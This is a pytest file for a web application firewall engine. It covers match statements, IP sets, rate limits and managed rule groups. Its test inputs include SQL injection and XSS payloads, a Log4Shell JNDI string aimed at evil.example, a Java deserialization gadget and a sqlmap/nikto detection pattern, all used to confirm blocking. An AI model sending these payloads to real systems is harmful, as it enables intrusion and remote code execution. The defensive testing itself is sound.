"""The web ACL engine: every statement type, rule actions, managed groups, rate limits."""

from __future__ import annotations

import pytest

from lamina.gateway.waf.detect import Detectors
from lamina.gateway.waf.engine import Compiler
from lamina.gateway.waf.field import RequestView
from lamina.gateway.waf.model import (
    AndStatement,
    ByteMatchStatement,
    FieldToMatch,
    IpSet,
    IpSetReferenceStatement,
    LabelMatchStatement,
    ManagedRuleGroupStatement,
    NotStatement,
    OrStatement,
    RateBasedStatement,
    RegexMatchStatement,
    Rule,
    SizeConstraintStatement,
    SqliMatchStatement,
    Statement,
    TextTransformation,
    WebAcl,
    XssMatchStatement,
)
from lamina.gateway.waf.rate import RateCounter

DETECTORS = Detectors()  # loading CRS once for the module keeps the tests fast
LOWER = (TextTransformation(priority=0, type="LOWERCASE"),)
URL = (TextTransformation(priority=0, type="URL_DECODE"),)


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def view(
    *,
    method: str = "GET",
    path: str = "/prod/hello",
    query: str = "",
    headers: list[tuple[str, str]] | None = None,
    body: bytes = b"",
    ip: str = "198.51.100.7",
    body_limit: int = 16384,
) -> RequestView:
    return RequestView(
        method=method,
        uri_path=path,
        query_string=query,
        headers=headers if headers is not None else [("User-Agent", "test")],
        body=body,
        source_ip=ip,
        body_limit=body_limit,
    )


def acl(*rules: Rule, default: str = "Allow") -> WebAcl:
    return WebAcl(name="acl", arn="arn:test", default_action=default, rules=rules)  # type: ignore[arg-type]


def block(statement: Statement, name: str = "r", priority: int = 0) -> Rule:
    return Rule(name=name, priority=priority, statement=statement, action="Block")


def matches(statement: Statement, request: RequestView, clock: Clock | None = None) -> bool:
    compiled = Compiler(DETECTORS, RateCounter(clock or Clock())).compile_acl(acl(block(statement)))
    return compiled.evaluate(request).action == "Block"


def byte(field: FieldToMatch, search: bytes, positional: str, t=LOWER) -> ByteMatchStatement:  # type: ignore[no-untyped-def]
    return ByteMatchStatement(field=field, search=search, positional=positional, transformations=t)  # type: ignore[arg-type]


URI = FieldToMatch(kind="UriPath")


@pytest.mark.parametrize(
    ("positional", "search", "path", "expected"),
    [
        ("EXACTLY", b"/prod/hello", "/PROD/Hello", True),
        ("EXACTLY", b"/prod/hell", "/prod/hello", False),
        ("STARTS_WITH", b"/prod/", "/prod/hello", True),
        ("STARTS_WITH", b"/hello", "/prod/hello", False),
        ("ENDS_WITH", b"hello", "/prod/hello", True),
        ("ENDS_WITH", b"prod", "/prod/hello", False),
        ("CONTAINS", b"od/he", "/prod/hello", True),
        ("CONTAINS", b"xyz", "/prod/hello", False),
        # CONTAINS_WORD: no letter, digit or _ on either side.
        ("CONTAINS_WORD", b"badbot", "/a;badbot;b", True),
        ("CONTAINS_WORD", b"badbot", "/badbot", True),
        ("CONTAINS_WORD", b"badbot", "/xbadbot", False),
        ("CONTAINS_WORD", b"badbot", "/badbot_1", False),
    ],
)
def test_byte_match_positional_constraints(
    positional: str, search: bytes, path: str, expected: bool
) -> None:
    assert matches(byte(URI, search, positional), view(path=path)) is expected


def test_byte_match_fields() -> None:
    request = view(
        method="POST",
        query="a=1&Token=abc&b=2",
        headers=[("User-Agent", "curl/8"), ("X-Tag", "Blue"), ("Cookie", "sid=xyz; theme=dark")],
        body=b'{"user":{"name":"eve","roles":["admin"]}}',
    )
    cases = [
        (FieldToMatch(kind="Method"), b"post", "EXACTLY"),
        (FieldToMatch(kind="QueryString"), b"token=abc", "CONTAINS"),
        (FieldToMatch(kind="SingleQueryArgument", name="token"), b"abc", "EXACTLY"),
        (FieldToMatch(kind="AllQueryArguments"), b"2", "EXACTLY"),
        (FieldToMatch(kind="SingleHeader", name="x-tag"), b"blue", "EXACTLY"),
        (FieldToMatch(kind="Headers", match_scope="KEY"), b"x-tag", "EXACTLY"),
        (FieldToMatch(kind="Cookies", match_scope="VALUE"), b"dark", "EXACTLY"),
        (FieldToMatch(kind="Body"), b'"roles"', "CONTAINS"),
        (FieldToMatch(kind="JsonBody", match_scope="VALUE"), b"admin", "EXACTLY"),
        (
            FieldToMatch(kind="JsonBody", match_scope="VALUE", included=("/user/name",)),
            b"eve",
            "EXACTLY",
        ),
    ]
    for field, search, positional in cases:
        assert matches(byte(field, search, positional), request), field


def test_field_scopes_and_patterns_exclude() -> None:
    request = view(headers=[("X-Tag", "blue"), ("Cookie", "sid=xyz")], body=b'{"k":"v"}')
    assert not matches(
        byte(FieldToMatch(kind="Headers", match_scope="VALUE"), b"x-tag", "EXACTLY"), request
    )
    excluded = FieldToMatch(kind="Headers", match_scope="ALL", excluded=("x-tag",))
    assert not matches(byte(excluded, b"blue", "EXACTLY"), request)
    keys = FieldToMatch(kind="Headers", match_scope="KEY")
    assert matches(byte(keys, b"X-Tag", "EXACTLY", ()), request)  # names as sent
    only_sid = FieldToMatch(kind="Cookies", match_scope="KEY", included=("sid",))
    assert matches(byte(only_sid, b"sid", "EXACTLY"), request)
    json_keys = FieldToMatch(kind="JsonBody", match_scope="KEY")
    assert matches(byte(json_keys, b"k", "EXACTLY"), request)
    assert not matches(byte(json_keys, b"v", "EXACTLY"), request)
    elsewhere = FieldToMatch(kind="JsonBody", match_scope="VALUE", included=("/other",))
    assert not matches(byte(elsewhere, b"v", "EXACTLY"), request)


def test_invalid_json_fallback() -> None:
    request = view(body=b"{not json")
    for fallback, expected in (("MATCH", True), ("NO_MATCH", False)):
        field = FieldToMatch(kind="JsonBody", match_scope="ALL", invalid_fallback=fallback)  # type: ignore[arg-type]
        assert matches(byte(field, b"zzz", "EXACTLY"), request) is expected
    as_string = FieldToMatch(
        kind="JsonBody", match_scope="ALL", invalid_fallback="EVALUATE_AS_STRING"
    )
    assert matches(byte(as_string, b"not json", "CONTAINS"), request)


def test_body_oversize_handling() -> None:
    big = view(body=b"a" * 20 + b"needle", body_limit=20)
    for handling, expected in (("CONTINUE", False), ("MATCH", True), ("NO_MATCH", False)):
        field = FieldToMatch(kind="Body", oversize=handling)  # type: ignore[arg-type]
        assert matches(byte(field, b"needle", "CONTAINS"), big) is expected
    # Within the limit NO_MATCH changes nothing.
    small = view(body=b"needle", body_limit=20)
    assert matches(
        byte(FieldToMatch(kind="Body", oversize="NO_MATCH"), b"needle", "CONTAINS"), small
    )


def test_regex_match_and_pattern_set() -> None:
    single = RegexMatchStatement(field=URI, patterns=(r"\.php$",), transformations=LOWER)
    assert matches(single, view(path="/prod/INDEX.PHP"))
    assert not matches(single, view(path="/prod/index.php.txt"))
    group = RegexMatchStatement(
        field=FieldToMatch(kind="SingleHeader", name="user-agent"),
        patterns=(r"^sqlmap", r"nikto"),
        pattern_set="scanners",
    )
    assert matches(group, view(headers=[("User-Agent", "Mozilla nikto/2")]))
    assert not matches(group, view(headers=[("User-Agent", "Mozilla")]))


@pytest.mark.parametrize(
    ("comparison", "size", "expected"),
    [("EQ", 11, True), ("NE", 11, False), ("LE", 11, True), ("LT", 11, False),
     ("GE", 12, False), ("GT", 10, True)],
)  # fmt: skip
def test_size_constraint_operators(comparison: str, size: int, expected: bool) -> None:
    # "/prod/hello" is 11 bytes; the slash counts as one.
    statement = SizeConstraintStatement(field=URI, comparison=comparison, size=size)  # type: ignore[arg-type]
    assert matches(statement, view()) is expected


def test_size_constraint_measures_after_transformations_and_absent_header_never_matches() -> None:
    decoded = SizeConstraintStatement(
        field=FieldToMatch(kind="QueryString"), comparison="EQ", size=3, transformations=URL
    )
    assert matches(decoded, view(query="%41%42%43"))
    empty = SizeConstraintStatement(
        field=FieldToMatch(kind="SingleHeader", name="user-agent"), comparison="EQ", size=0
    )
    assert not matches(empty, view(headers=[]))  # no component: no match
    assert matches(empty, view(headers=[("User-Agent", "")]))
    assert not matches(empty, view())


def test_ip_set_v4_v6_and_forwarded_header() -> None:
    v4 = IpSet(name="s", arn="a", addresses=("198.51.100.0/24",))
    assert matches(IpSetReferenceStatement(ip_set=v4), view(ip="198.51.100.7"))
    assert not matches(IpSetReferenceStatement(ip_set=v4), view(ip="203.0.113.9"))
    v6 = IpSet(name="s6", arn="b", ip_address_version="IPV6", addresses=("2001:db8::/32",))
    assert matches(IpSetReferenceStatement(ip_set=v6), view(ip="2001:db8::1"))
    forwarded = IpSetReferenceStatement(ip_set=v4, forwarded_header="X-Forwarded-For")
    header = [("X-Forwarded-For", "198.51.100.9, 10.0.0.1")]
    assert matches(forwarded, view(ip="203.0.113.9", headers=header))
    assert not matches(forwarded, view(ip="198.51.100.7", headers=[]))  # NO_MATCH fallback
    fallback = IpSetReferenceStatement(
        ip_set=v4, forwarded_header="X-Real-IP", forwarded_fallback="MATCH"
    )
    assert matches(fallback, view(headers=[("X-Real-IP", "garbage")]))


def test_and_or_not() -> None:
    hello = byte(URI, b"hello", "CONTAINS")
    post = byte(FieldToMatch(kind="Method"), b"post", "EXACTLY")
    assert matches(AndStatement(statements=(hello, post)), view(method="POST"))
    assert not matches(AndStatement(statements=(hello, post)), view(method="GET"))
    assert matches(OrStatement(statements=(hello, post)), view(method="GET"))
    assert matches(NotStatement(statement=post), view(method="GET"))
    assert not matches(NotStatement(statement=hello), view())


def test_sqli_match_low_and_high_sensitivity() -> None:
    field = FieldToMatch(kind="SingleQueryArgument", name="id")
    low = SqliMatchStatement(field=field, transformations=URL)
    high = SqliMatchStatement(field=field, transformations=URL, sensitivity="HIGH")
    attack = view(query="id=1%27%20OR%20%271%27%3D%271")
    assert matches(low, attack) and matches(high, attack)
    assert not matches(low, view(query="id=O%27Brien"))
    # HIGH (CRS paranoia level 2) flags what LOW lets pass.
    assert not matches(low, view(query="id=order%20by%20price"))
    assert matches(high, view(query="id=order%20by%20price"))


def test_xss_match_after_decoding() -> None:
    statement = XssMatchStatement(
        field=FieldToMatch(kind="Body"),
        transformations=(
            TextTransformation(priority=0, type="URL_DECODE"),
            TextTransformation(priority=1, type="HTML_ENTITY_DECODE"),
        ),
    )
    assert matches(statement, view(body=b"c=%3Csvg%2Fonload%3Dalert(1)%3E"))
    assert matches(statement, view(body=b"&lt;script&gt;alert(1)&lt;/script&gt;"))
    assert not matches(statement, view(body=b"comment=I love <3 my cat"))


def test_first_terminating_rule_by_priority_wins_and_count_continues() -> None:
    anything = byte(URI, b"/", "CONTAINS")
    rules = (
        Rule(name="blocker", priority=20, statement=anything, action="Block"),
        Rule(name="counter", priority=1, statement=anything, action="Count"),
        Rule(name="allower", priority=10, statement=anything, action="Allow"),
    )
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(acl(*rules))
    verdict = compiled.evaluate(view())
    assert (verdict.action, verdict.rule, verdict.counted) == ("Allow", "allower", ["counter"])


def test_default_action_applies_when_no_rule_terminates() -> None:
    nothing = byte(URI, b"zzz", "CONTAINS")
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(acl(block(nothing), default="Block"))
    verdict = compiled.evaluate(view())
    assert (verdict.action, verdict.rule) == ("Block", None)


def test_rate_based_rule_counts_per_ip_in_a_sliding_window() -> None:
    clock = Clock()
    statement = RateBasedStatement(limit=10, window_seconds=60)
    compiled = Compiler(DETECTORS, RateCounter(clock)).compile_acl(acl(block(statement, "rate")))
    results = [compiled.evaluate(view(ip="192.0.2.1")).action for _ in range(11)]
    assert results == ["Allow"] * 10 + ["Block"]
    assert compiled.evaluate(view(ip="192.0.2.2")).action == "Allow"  # another address
    clock.now += 61  # the window slides past every earlier request
    assert compiled.evaluate(view(ip="192.0.2.1")).action == "Allow"


def test_rate_based_scope_down_and_aggregates() -> None:
    clock = Clock()
    scoped = RateBasedStatement(limit=10, scope_down=byte(URI, b"/prod/login", "EXACTLY"))
    compiled = Compiler(DETECTORS, RateCounter(clock)).compile_acl(acl(block(scoped, "rate")))
    for _ in range(20):
        assert compiled.evaluate(view(path="/prod/hello")).action == "Allow"
    actions = [compiled.evaluate(view(path="/prod/login")).action for _ in range(11)]
    assert actions[-1] == "Block" and actions[:-1] == ["Allow"] * 10
    constant = RateBasedStatement(limit=10, aggregate="CONSTANT")
    everyone = Compiler(DETECTORS, RateCounter(clock)).compile_acl(acl(block(constant, "c")))
    actions = [everyone.evaluate(view(ip=f"192.0.2.{i}")).action for i in range(11)]
    assert actions[-1] == "Block"
    forwarded = RateBasedStatement(
        limit=10, aggregate="FORWARDED_IP", forwarded_header="X-Forwarded-For"
    )
    by_header = Compiler(DETECTORS, RateCounter(clock)).compile_acl(acl(block(forwarded, "f")))
    headers = [("X-Forwarded-For", "203.0.113.5")]
    actions = [
        by_header.evaluate(view(ip=f"192.0.2.{i}", headers=headers)).action for i in range(11)
    ]
    assert actions[-1] == "Block"
    assert by_header.evaluate(view(headers=[])).action == "Allow"  # no header: not counted


def _group(**kwargs: object) -> Rule:
    statement = ManagedRuleGroupStatement(vendor="AWS", name="AWSManagedRulesSQLiRuleSet", **kwargs)  # type: ignore[arg-type]
    return Rule(name="sqli", priority=0, statement=statement, override_action="None")


def test_managed_sqli_group_names_the_rule_that_matched() -> None:
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(acl(_group()))
    verdict = compiled.evaluate(view(query="id=1%20UNION%20SELECT%20password%20FROM%20users"))
    assert (verdict.action, verdict.rule) == (
        "Block",
        "AWSManagedRulesSQLiRuleSet/SQLi_QUERYARGUMENTS",
    )
    verdict = compiled.evaluate(view(headers=[("Cookie", "sid=1' or '1'='1")]))
    assert verdict.rule == "AWSManagedRulesSQLiRuleSet/SQLi_COOKIE"
    assert compiled.evaluate(view(query="q=O%27Brien")).action == "Allow"


def test_managed_group_overrides_exclusions_scope_down_and_count() -> None:
    attack = view(query="id=1%20UNION%20SELECT%20password%20FROM%20users")
    overridden = _group(action_overrides={"SQLi_QUERYARGUMENTS": "Count"})
    verdict = Compiler(DETECTORS, RateCounter()).compile_acl(acl(overridden)).evaluate(attack)
    assert (verdict.action, verdict.counted) == (
        "Allow",
        ["AWSManagedRulesSQLiRuleSet/SQLi_QUERYARGUMENTS"],
    )
    excluded = _group(excluded_rules=("SQLi_QUERYARGUMENTS",))
    assert (
        Compiler(DETECTORS, RateCounter()).compile_acl(acl(excluded)).evaluate(attack).action
        == "Allow"
    )
    scoped = _group(scope_down=byte(URI, b"/admin", "STARTS_WITH"))
    assert (
        Compiler(DETECTORS, RateCounter()).compile_acl(acl(scoped)).evaluate(attack).action
        == "Allow"
    )
    counting = Rule(
        name="sqli",
        priority=0,
        statement=ManagedRuleGroupStatement(vendor="AWS", name="AWSManagedRulesSQLiRuleSet"),
        override_action="Count",
    )
    # An attack in both the query and the path: the group stops at its first match, which
    # OverrideAction Count turns into a count.
    both = view(
        path="/prod/1%27%20OR%20%271%27%3D%271",
        query="id=1%20UNION%20SELECT%20password%20FROM%20users",
    )
    verdict = Compiler(DETECTORS, RateCounter()).compile_acl(acl(counting)).evaluate(both)
    assert verdict.action == "Allow"
    assert verdict.counted == ["AWSManagedRulesSQLiRuleSet/SQLi_QUERYARGUMENTS"]


def test_managed_common_rule_set_sizes_user_agent_and_xss() -> None:
    rule = Rule(
        name="crs",
        priority=0,
        statement=ManagedRuleGroupStatement(vendor="AWS", name="AWSManagedRulesCommonRuleSet"),
        override_action="None",
    )
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(acl(rule))

    def rule_for(request: RequestView) -> str | None:
        return compiled.evaluate(request).rule

    prefix = "AWSManagedRulesCommonRuleSet/"
    assert rule_for(view(headers=[])) == prefix + "NoUserAgent_HEADER"
    assert rule_for(view(query="a=" + "x" * 2048)) == prefix + "SizeRestrictions_QUERYSTRING"
    assert rule_for(view(body=b"x" * 8193)) == prefix + "SizeRestrictions_BODY"
    assert rule_for(view(path="/" + "p" * 1024)) == prefix + "SizeRestrictions_URIPATH"
    assert (
        rule_for(view(query="q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
        == prefix + "CrossSiteScripting_QUERYARGUMENTS"
    )
    assert rule_for(view(body=b"x" * 8192)) is None


def test_known_bad_inputs_java_log4shell_and_propfind() -> None:
    rule = Rule(
        name="kbi",
        priority=0,
        statement=ManagedRuleGroupStatement(
            vendor="AWS", name="AWSManagedRulesKnownBadInputsRuleSet"
        ),
        override_action="None",
    )
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(acl(rule))
    prefix = "AWSManagedRulesKnownBadInputsRuleSet/"
    jndi = view(headers=[("User-Agent", "${jndi:ldap://evil.example/a}")])
    assert compiled.evaluate(jndi).rule == prefix + "Log4JRCE_HEADER"
    encoded = view(query="x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")
    assert compiled.evaluate(encoded).rule == prefix + "Log4JRCE_QUERYSTRING"
    gadget = view(method="POST", body=b"<java.lang.ProcessBuilder><command>sh</command>")
    assert compiled.evaluate(gadget).rule == prefix + "JavaDeserializationRCE_BODY"
    assert compiled.evaluate(view(method="PROPFIND")).rule == prefix + "PROPFIND_METHOD"
    assert compiled.evaluate(view()).action == "Allow"


def test_detections_name_the_crs_rules_for_the_console() -> None:
    request = view(query="id=1%27%20OR%20%271%27%3D%271")
    statement = SqliMatchStatement(
        field=FieldToMatch(kind="AllQueryArguments"), transformations=URL
    )
    assert matches(statement, request)
    assert request.notes and request.notes[0].startswith("CRS 942")


def test_headers_and_cookies_past_200_or_8kb_follow_oversize_handling() -> None:
    many = [(f"X-H{i}", "v") for i in range(200)] + [("X-Late", "needle")]
    for handling, expected in (("CONTINUE", False), ("MATCH", True), ("NO_MATCH", False)):
        field = FieldToMatch(kind="Headers", match_scope="VALUE", oversize=handling)  # type: ignore[arg-type]
        assert matches(byte(field, b"needle", "EXACTLY"), view(headers=many)) is expected
    big_cookie = [("Cookie", "a=" + "x" * 9000 + "; b=needle")]
    field = FieldToMatch(kind="Cookies", match_scope="VALUE", oversize="MATCH")
    assert matches(byte(field, b"nothing", "EXACTLY"), view(headers=big_cookie))
    few = [("X-A", "needle")]
    no_match = FieldToMatch(kind="Headers", match_scope="VALUE", oversize="NO_MATCH")
    assert matches(byte(no_match, b"needle", "EXACTLY"), view(headers=few))


def test_ip_set_with_many_blocks_of_mixed_lengths() -> None:
    many = [f"10.{i // 256}.{i % 256}.0/24" for i in range(5000)]
    blocks = (*many, "203.0.113.7/32", "198.51.100.0/22", "0.0.0.0/32")
    statement = IpSetReferenceStatement(ip_set=IpSet(name="big", arn="x", addresses=blocks))
    for address, expected in [
        ("10.19.135.200", True),  # block 5000 - 1 = 10.19.135.0/24
        ("10.19.136.1", False),
        ("203.0.113.7", True),
        ("203.0.113.8", False),
        ("198.51.103.255", True),  # /22 covers .100.0 - .103.255
        ("198.51.104.0", False),
        ("::1", False),  # another family
    ]:
        assert matches(statement, view(ip=address)) is expected, address


def _labelled_acl(*rules: Rule) -> WebAcl:
    return WebAcl(
        name="shop",
        arn="arn:aws:wafv2:us-east-1:123456789012:regional/webacl/shop/abc",
        rules=rules,
    )


def test_rule_labels_feed_later_label_matches() -> None:
    admin = byte(URI, b"/prod/admin", "STARTS_WITH")
    tag = Rule(name="tag", priority=0, statement=admin, action="Count", labels=("area:admin",))
    by_name = Rule(
        name="by-name",
        priority=1,
        statement=LabelMatchStatement(scope="LABEL", key="area:admin"),
        action="Block",
    )
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(_labelled_acl(tag, by_name))
    verdict = compiled.evaluate(view(path="/prod/admin/users"))
    assert (verdict.action, verdict.rule, verdict.counted) == ("Block", "by-name", ["tag"])
    assert compiled.evaluate(view(path="/prod/hello")).action == "Allow"
    # The fully qualified name and the namespace find it too; another context's does not.
    for scope, key, expected in [
        ("LABEL", "awswaf:123456789012:webacl:shop:area:admin", True),
        ("LABEL", "admin", True),
        ("LABEL", "awswaf:999999999999:webacl:shop:area:admin", False),
        ("NAMESPACE", "area:", True),
        ("NAMESPACE", "awswaf:123456789012:webacl:shop:", True),
        ("NAMESPACE", "other:", False),
    ]:
        rule = Rule(
            name="m",
            priority=1,
            statement=LabelMatchStatement(scope=scope, key=key),  # type: ignore[arg-type]
            action="Block",
        )
        acl_ = _labelled_acl(tag, rule)
        action = (
            Compiler(DETECTORS, RateCounter()).compile_acl(acl_).evaluate(view(path="/prod/admin"))
        )
        assert (action.action == "Block") is expected, (scope, key)


def test_managed_rule_labels_let_a_counted_group_block_selectively() -> None:
    counted = Rule(
        name="sqli",
        priority=0,
        statement=ManagedRuleGroupStatement(vendor="AWS", name="AWSManagedRulesSQLiRuleSet"),
        override_action="Count",
    )
    only_query = Rule(
        name="block-sqli-query",
        priority=1,
        statement=LabelMatchStatement(
            scope="LABEL", key="awswaf:managed:aws:sql-database:SQLi_QueryArguments"
        ),
        action="Block",
    )
    compiled = Compiler(DETECTORS, RateCounter()).compile_acl(_labelled_acl(counted, only_query))
    attack = view(query="id=1%20UNION%20SELECT%20password%20FROM%20users")
    assert compiled.evaluate(attack).rule == "block-sqli-query"
    cookie = view(headers=[("Cookie", "sid=1' or '1'='1")])
    verdict = compiled.evaluate(cookie)
    assert verdict.action == "Allow"
    assert cookie.labels == ["awswaf:managed:aws:sql-database:SQLi_Cookie"]
